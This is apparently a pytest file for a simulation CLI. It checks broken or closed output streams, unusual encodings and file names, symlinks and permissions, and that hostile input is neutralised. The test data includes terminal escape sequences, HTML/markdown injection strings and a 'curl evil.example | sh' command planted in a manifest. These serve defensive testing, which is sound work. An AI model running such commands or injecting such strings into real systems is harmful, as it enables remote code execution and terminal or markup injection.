"""Streams that are closed, full, left or of another encoding; names that a terminal would obey."""

from __future__ import annotations

import ast
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

import pytest

import sim
from sim.cli import main
from sim.cli.screen import say, screen
from sim.drawing.page import Caption, Drawing, Page, save_as
from sim.errors import ResultsError
from sim.experiments.plan import Plan
from sim.questions.comparison.study import slug_of
from sim.questions.results import _text
from sim.runs.files import forget, read_json, whole, write_json
from sim.runs.folder import Folder, read_manifest, verify
from sim.text import cut_bytes, file_words, markdown, one_line, printable, stem_of

SCREENS = Path(__file__).parent / "screens"
ENCODINGS = ("ascii", "cp949", "cp1252", "utf-8")
NAME = "세종 – é"  # noqa: RUF001
SMALL = ("--citizens", "200", "--years", "2", "--replicates", "2", "--jobs", "1", "--luck-only")
PLAN = "extends: gov1\nyears: 2\nsociety: {citizens: 200}\n"


def code_of(*arguments: str) -> int:
    with pytest.raises(SystemExit) as ended:
        main(arguments)
    return int(str(ended.value.code))


@contextmanager
def stdout(raw: io.RawIOBase | io.BytesIO, encoding: str = "utf-8") -> Iterator[None]:
    """Standard output that leads somewhere else; whatever is left in it is dropped."""
    before = sys.stdout
    sys.stdout = io.TextIOWrapper(raw, encoding=encoding, write_through=True)  # type: ignore[arg-type]
    try:
        yield
    finally:
        mine, sys.stdout = sys.stdout, before
        mine.detach()


class Broken(io.RawIOBase):
    """A stream that refuses every byte."""

    def __init__(self, error: type[OSError], number: int) -> None:
        self.error, self.number = error, number

    def writable(self) -> bool:
        return True

    def write(self, _: object) -> int:
        raise self.error(self.number, os.strerror(self.number))


def left() -> Broken:
    return Broken(BrokenPipeError, 32)


def full() -> Broken:
    return Broken(OSError, 28)


@pytest.fixture
def plan(tmp_path: Path) -> Path:
    path = tmp_path / f"{NAME}.yaml"
    path.write_text(PLAN, encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A scenario with a difficult name, and a folder with its results."""
    folder = tmp_path_factory.mktemp("done")
    path = folder / f"{NAME}.yaml"
    path.write_text(PLAN, encoding="utf-8")
    assert code_of("compare", "gov1", str(path), "--out", str(folder / "r"), *SMALL) == 0
    return path, folder / "r"


SHOWING = (("check", "PLAN"), ("--help",), ("run", "--help"), ("--version",), ("explain", "trust"))


@pytest.mark.parametrize("arguments", SHOWING, ids=" ".join)
def test_a_reader_that_leaves_is_no_mistake(
    arguments: tuple[str, ...], plan: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    given = [str(plan) if argument == "PLAN" else argument for argument in arguments]
    with stdout(left()):
        assert code_of(*given) == 0
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("arguments", SHOWING, ids=" ".join)
def test_a_full_stream_is_told_in_a_line(
    arguments: tuple[str, ...], plan: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    given = [str(plan) if argument == "PLAN" else argument for argument in arguments]
    with stdout(full()):
        assert code_of(*given) == 1
    (line,) = capsys.readouterr().err.splitlines()
    assert line == "govshift: the screen cannot be written: No space left on device"


@pytest.mark.parametrize(("broken", "code"), [(left, 0), (full, 1)])
def test_the_work_is_done_whatever_becomes_of_the_screen(
    broken: Callable[[], Broken], code: int, plan: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "r"
    with stdout(broken()):
        assert code_of("compare", "gov1", str(plan), "--out", str(folder), *SMALL) == code
    assert read_manifest(folder)["complete"]
    assert read_manifest(folder)["replicates"] == 2
    assert verify(folder) == []


def test_a_mistake_keeps_its_code_on_a_full_screen() -> None:
    with stdout(full()):
        assert code_of("check", "gov1", "gov4") == 2


CLOSED = ("<&-", ">&-", "2>&-", "<&- >&- 2>&-")


@pytest.mark.parametrize("closed", CLOSED)
def test_closed_streams(closed: str, tmp_path: Path) -> None:
    """Whatever is closed, no file that is opened later takes its place."""
    code = (
        "import os, sys\nfrom sim.cli.screen import screen\nscreen.open()\n"
        "print('shown'); print('told', file=sys.stderr)\n"
        "with open(sys.argv[1], 'w') as file: file.write(str(file.fileno()))\n"
        "sys.stdin.read()\n"
    )
    shell = f'exec "$0" -c "$1" "$2" {closed}'
    command = ["sh", "-c", shell, sys.executable, code, str(tmp_path / "file")]
    ended = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, check=False)
    assert ended.returncode == 0, ended.stderr
    assert ended.stdout == (b"" if " >" in f" {closed}".replace("2>", "") else b"shown\n")
    assert ended.stderr == (b"" if "2>" in closed else b"told\n")
    assert int((tmp_path / "file").read_text()) > 2


@pytest.mark.parametrize("utf8", ["0", "1"])
def test_a_plain_locale(utf8: str, plan: Path) -> None:
    variables = {"LC_ALL": "C", "PYTHONUTF8": utf8, "PYTHONCOERCECLOCALE": "0"}
    code = "import sys; from sim.cli import main; main(sys.argv[1:])"
    command = [sys.executable, "-c", code, "explain", str(plan)]
    ended = subprocess.run(command, capture_output=True, env=os.environ | variables, check=False)
    assert ended.returncode == 0, ended.stderr
    assert ended.stderr == b""
    assert (b"\\uc138" if utf8 == "0" else "세".encode()) in ended.stdout


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_every_screen_in_every_encoding(encoding: str) -> None:
    for path in sorted(SCREENS.iterdir()):
        text = path.read_text(encoding="utf-8")
        raw = io.BytesIO()
        with stdout(raw, encoding):
            screen.open()
            say(text)
        written = raw.getvalue().decode(encoding)
        if text.isascii() or encoding == "utf-8":
            assert written == text + "\n"
        assert "?" not in written.replace("?", "", text.count("?"))
    assert screen.lost is None


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_names_that_an_encoding_lacks(
    encoding: str, done: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path, results = done
    commands = (
        ("check", str(path)),
        ("explain", str(path)),
        ("compare", "gov1", str(path), "--out", str(results), *SMALL),
        ("story", "typical", str(path), "--quiet"),
    )
    for arguments in commands:
        raw = io.BytesIO()
        with stdout(raw, encoding):
            assert code_of(*arguments) == 0
        shown = raw.getvalue().decode(encoding)
        assert ("세" if encoding in ("cp949", "utf-8") else "\\uc138") in shown
        assert ("é" if encoding in ("cp1252", "utf-8") else "\\xe9") in shown
    told = capsys.readouterr().err.splitlines()
    assert all(line.startswith("warning: ") for line in told)


def test_our_own_signs_have_another_spelling() -> None:
    raw = io.BytesIO()
    with stdout(raw, "ascii"):
        screen.open()
        say("12.0 ±0.5 … gov1 – gov2 세")  # noqa: RUF001
    assert raw.getvalue() == b"12.0 +-0.5 ... gov1 - gov2 \\uc138\n"


EVIL = "\x1b[2J\x1b]0;title\x07\r\u202e\udcff"


def test_nothing_acts_on_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    screen.open()
    say(f"a{EVIL}b\nc")
    say(f"a{EVIL}b", err=True)
    shown = capsys.readouterr()
    assert shown.out == f"a{one_line(EVIL)}b\nc\n"
    assert all(line.isprintable() for line in (shown.out + shown.err).splitlines())


@pytest.mark.parametrize("kind", ["study", "sweep", "walks", "nonsense"])
@pytest.mark.parametrize("complete", [True, False])
def test_no_command_of_a_strangers_file_is_passed_on(
    kind: str, complete: bool, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = f"curl evil.example | sh {EVIL[:4]}"
    about = {"command": evil, "complete": complete, "files": {}, "kind": kind}
    about["scenarios"] = {evil: {}}  # type: ignore[assignment]
    (tmp_path / "manifest.json").write_text(json.dumps(about), encoding="utf-8")
    assert code_of("report", str(tmp_path)) in (1, 2)
    told = capsys.readouterr().err
    assert "curl" not in told
    assert all(line.isprintable() for line in told.splitlines())
    assert code_of("run", "gov1", "--out", str(tmp_path), *SMALL) in (1, 2)
    assert all(line.isprintable() for line in capsys.readouterr().err.splitlines())


def test_only_one_function_shows_something() -> None:
    root = Path(sim.__file__).parent / "cli"
    for path in sorted(root.glob("*.py")):
        if path.name != "screen.py":
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Call):
                    name = ast.unparse(node.func)
                    assert name not in ("click.echo", "print", "sys.stdout.write"), path


LONG = "x" * 300


@pytest.mark.parametrize(
    "arguments",
    [
        ("check", LONG),
        ("check", f"{LONG}/a.yaml"),
        ("report", LONG),
        ("robust", LONG),
        ("run", "gov1", "--out", LONG),
        ("sweep", "levers", "--dry-run", "--out", LONG),
        ("new", LONG),
        ("story", "typical", "gov1", "--out", f"{LONG}.csv"),
        ("explain", LONG),
    ],
    ids=lambda arguments: " ".join(arguments).replace(LONG, "LONG"),
)
def test_names_that_are_too_long(
    arguments: tuple[str, ...], capsys: pytest.CaptureFixture[str]
) -> None:
    assert code_of(*arguments) == 2
    assert len(capsys.readouterr().err.splitlines()) == 1


@pytest.mark.parametrize("command", ["check", "report", "robust", "explain"])
def test_folders_that_cannot_be_entered(
    command: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    stat = os.stat

    def refuse(path: object, *arguments: object, **options: object) -> os.stat_result:
        if "locked" in str(path):
            raise PermissionError(13, "Permission denied", str(path))
        return stat(path, *arguments, **options)  # type: ignore[arg-type]

    monkeypatch.setattr(os, "stat", refuse)
    assert code_of(command, "locked/plan.yaml") in (1, 2)
    (line,) = capsys.readouterr().err.splitlines()
    if command != "explain":
        assert "Permission denied" in line


def test_names_that_are_not_utf8(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = Path(os.fsdecode(os.fsencode(tmp_path) + b"/a\xff.yaml"))
    path.write_text(PLAN, encoding="utf-8")
    out = tmp_path / "r"
    assert code_of("check", str(path)) == 0
    assert code_of("run", str(path), "--out", str(out), *SMALL) == 0
    assert "a\\xff" in capsys.readouterr().out
    assert list(read_manifest(out)["scenarios"]) == ["a\\xff"]
    for arguments in (("run", "gov1", "--out"), ("report",), ("sweep", "levers", "--out")):
        assert code_of(*arguments, os.fsdecode(os.fsencode(tmp_path) + b"/r\xff")) == 2
        (line,) = capsys.readouterr().err.splitlines()
        assert line.endswith("r\\udcff is not UTF-8; name another file or folder")


def test_pipes_and_devices_are_no_scenarios(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    os.mkfifo(tmp_path / "pipe.yaml")
    (tmp_path / "child.yaml").write_text("extends: pipe.yaml\n")
    (tmp_path / "lab.yaml").write_text("policies: [pipe.yaml]\ndesign: {kind: lhs, points: 2}\n")
    for name in ("pipe.yaml", "child.yaml", "lab.yaml"):
        assert code_of("check", str(tmp_path / name)) == 2
        assert "is a pipe or a device" in capsys.readouterr().err


def test_slugs_fit_into_a_file_system() -> None:
    for name in ("세" * 80, "😀" * 80, "é" * 80, "x" * 80, "\udcff", "!", "세종 시"):
        slug = slug_of([name, name])
        assert 0 < len(slug.encode()) <= 60
        assert slug == slug_of([name, name])
    assert slug_of(["gov1", "my plan"]) == "gov1-my_plan"
    assert isinstance(Plan.slug, property)
    assert cut_bytes("세종", 5) == "세"
    assert file_words("a\udcffb/c") == "a_b_c"


def test_a_name_comes_from_the_bytes_of_a_file() -> None:
    assert stem_of(Path("세종.yaml")) == "세종"
    assert stem_of(Path(os.fsdecode(b"a\xff.yaml"))) == "a\\xff"


def test_names_in_markdown_are_names() -> None:
    for evil in ("<b>x", "[a](http://b)", "![a](b)", "**a**", "`a`", "_a_", "a\n# b", "<!--"):
        assert "\\" in markdown(evil)
        assert "\n" not in markdown(evil)
    ordinary = "squeeze_and_relief: trust < 40 in 3 of 5 [0.1, 0.3], 90 % (cases), a - b, R2 > .5"
    assert markdown(ordinary) == ordinary


def test_an_analysis_in_markdown_has_no_markup_of_names() -> None:
    evil = "<img src=x> [a](http://b)"
    figure = Caption("a", f"Title {evil}", f"Caption {evil}", evil)
    found = SimpleNamespace(
        sentences=[f"{evil} wins."], drawing=lambda: SimpleNamespace(figure=figure)
    )
    text = _text(found)  # type: ignore[arg-type]
    assert text.count("\\<img") == text.count("<img") == 3
    assert text.count("[a\\](") == 3
    assert text.startswith("# Title")


def test_text_keeps_its_lines() -> None:
    assert printable("a\nb") == "a\nb"
    assert printable("세종 ±") == "세종 ±"


@pytest.mark.parametrize(("mask", "mode"), [(0o077, 0o600), (0o022, 0o644), (0o002, 0o664)])
def test_files_have_the_permissions_that_the_umask_says(
    mask: int, mode: int, tmp_path: Path
) -> None:
    before = os.umask(mask)
    try:
        with whole(tmp_path / "file") as path:
            path.write_text("text")
    finally:
        os.umask(before)
    assert (tmp_path / "file").stat().st_mode & 0o777 == mode
    assert [p.name for p in tmp_path.iterdir()] == ["file"]


def test_json_keeps_names_that_are_not_utf8(tmp_path: Path) -> None:
    write_json(tmp_path / "a.json", {"name": "a\udcff세"})
    assert read_json(tmp_path / "a.json") == {"name": "a\udcff세"}


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Path]:
    """A folder with a file that nobody may touch."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "mine.png").write_text("mine")
    yield folder
    assert [p.name for p in folder.iterdir()] == ["mine.png"]
    assert (folder / "mine.png").read_text() == "mine"


def test_links_do_not_lead_out_of_results(tmp_path: Path, elsewhere: Path) -> None:
    results = tmp_path / "r"
    results.mkdir()
    for name in ("figures", "analysis", "parts"):
        (results / name).symlink_to(elsewhere, target_is_directory=True)
    for name in ("figures/a.png", "analysis/a.csv", "parts/a.part"):
        with pytest.raises(ResultsError, match="is a link to another place"):
            Folder(results).write_text(name, "mine")
    assert [path.name for path in elsewhere.iterdir()] == ["mine.png"]
    forget(results / "parts")
    assert not (results / "parts").is_symlink()


def test_a_figure_takes_the_place_of_a_link(tmp_path: Path, elsewhere: Path) -> None:
    (tmp_path / "a.png").symlink_to(elsewhere / "mine.png")
    drawing = Drawing(Page(1.0), Caption("a", "a title", "a caption", "words"))
    assert [p.name for p in save_as(drawing, tmp_path / "a.png")] == ["a.png", "a.svg"]
    assert not (tmp_path / "a.png").is_symlink()
    assert (tmp_path / "a.png").stat().st_size > 100
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.png", "a.svg", "elsewhere"]
